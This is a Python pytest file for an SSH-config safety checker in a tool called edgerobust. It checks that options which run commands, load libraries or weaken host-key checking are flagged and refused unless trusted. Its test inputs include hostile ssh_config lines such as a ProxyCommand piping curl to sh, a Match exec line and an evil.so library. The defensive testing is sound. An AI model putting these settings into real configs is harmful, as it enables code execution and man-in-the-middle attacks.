"""An ssh_config named by someone else (a fleet file, the plugin) is shown and refused unless trusted."""
from __future__ import annotations

import pytest

from edgerobust.errors import EdgeRobustError
from edgerobust.remote.ssh_config import check_ssh_config, risky_options


@pytest.mark.parametrize("setting, why", [
    ("ProxyCommand nc %h %p", "runs a local command"),
    ("  proxycommand=sh -c 'curl x | sh'", "runs a local command"),
    ("LocalCommand touch /tmp/x", "runs a local command"),
    ("KnownHostsCommand /bin/echo key", "runs a local command"),
    ("Match exec \"touch /tmp/pwned\"", "runs a local command"),
    ("PKCS11Provider /tmp/evil.so", "loads a local library"),
    ("Include ~/other.conf", "reads other config files"),
    ("UserKnownHostsFile /tmp/attacker_known_hosts", "replaces your known_hosts"),
    ("StrictHostKeyChecking no", "accepts unknown or changed host keys"),
    ("StrictHostKeyChecking=accept-new", "accepts unknown or changed host keys"),
])
def test_risky_settings_are_named_with_their_line(tmp_path, setting, why):
    config = tmp_path / "ssh_config"
    config.write_text(f"# fleet\nHost nano\n  HostName 10.0.0.7\n  User pi\n{setting}\n")
    assert risky_options(config) == [f"line 5: {setting.strip()} ({why})"]
    with pytest.raises(EdgeRobustError) as caught:
        check_ssh_config(config, "fleet file fleet.toml", trusted=False)
    message = str(caught.value)
    assert "fleet file fleet.toml names ssh_config" in message and why in message and "--trust-ssh-config" in message
    assert check_ssh_config(config, "fleet file fleet.toml", trusted=True) == risky_options(config)


def test_a_plain_config_passes(tmp_path):
    config = tmp_path / "ssh_config"
    config.write_text("Host nano\n  HostName nano.local\n  Port 2222\n  IdentityFile ~/.ssh/id_ed25519\n"
                      "  StrictHostKeyChecking yes\n  BatchMode yes\n  Match host nano user pi\n")
    assert risky_options(config) == [] and check_ssh_config(config, "the plugin", trusted=False) == []


def test_a_missing_config_is_one_line(tmp_path):
    with pytest.raises(EdgeRobustError, match="does not exist"):
        risky_options(tmp_path / "nope")


def test_a_fleet_file_naming_such_a_config_is_refused_unless_trusted(tmp_path):
    from edgerobust.remote.fleet import FleetError, load_fleet

    config = tmp_path / "fleet_ssh_config"
    config.write_text("Host *\n  UserKnownHostsFile /tmp/theirs\n  StrictHostKeyChecking no\n")
    fleet = tmp_path / "fleet.toml"
    fleet.write_text(f'[defaults]\nssh_config = "{config}"\n[[device]]\nname = "a"\nhost = "pi@a"\n'
                     '[[device]]\nname = "b"\nhost = "pi@b"\n')
    with pytest.raises(FleetError) as caught:
        load_fleet(fleet)
    message = str(caught.value)
    assert "device 1: field 'ssh_config' names ssh_config" in message
    assert "replaces your known_hosts" in message and "accepts unknown or changed host keys" in message
    loaded = load_fleet(fleet, trust_ssh_config=True)
    assert len(loaded.devices) == 2 and len(loaded.trusted_ssh_settings) == 2  # shown once each, not per device
